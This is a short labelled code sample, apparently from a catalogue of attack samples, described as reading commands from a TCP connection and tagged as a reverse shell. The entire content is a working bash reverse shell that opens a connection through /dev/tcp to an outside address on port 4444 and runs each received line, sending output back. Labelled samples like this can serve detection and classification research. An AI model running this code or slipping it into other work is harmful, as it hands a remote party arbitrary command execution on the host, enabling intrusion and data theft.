# description: Reads commands from a TCP connection and runs each line.
# family: reverse-shell
exec 5<>/dev/tcp/203.0.113.10/4444
cat <&5 | while read -r line; do $line 2>&5 >&5; done
